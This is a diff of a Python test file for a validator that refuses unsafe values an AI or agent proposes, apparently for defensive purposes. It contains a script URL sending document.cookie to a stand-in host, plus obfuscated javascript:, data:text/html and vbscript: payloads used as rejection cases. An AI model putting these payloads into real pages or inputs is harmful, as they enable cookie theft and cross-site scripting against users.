@@ -210,8 +210,11 @@ def test_a_script_url_proposed_as_a_value_is_refused() -> None:
                                "proposed": " JavaScript:fetch('//x.example?c='+document.cookie)"}]}
 
     assert check_proposed(homepage).category == "output_unsafe_value"
-    assert check_proposed({"proposals": [{"proposed": "https://intranet.example/home"}]}
-                          ).allowed
+    for value in ("java\tscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
+                  "data:text/html,<script>alert(1)</script>", "\x01 vbscript:msgbox(1)"):
+        assert not check_proposed({"proposals": [{"proposed": value}]}).allowed, value
+    for value in ("https://intranet.example/home", "JavaScript: TypeError in cart.js"):
+        assert check_proposed({"writes": [{"fields": {"body": value}}]}).allowed, value
 
 
 def test_a_citation_holding_a_key_is_refused_and_one_saying_where_a_token_goes_is_not(
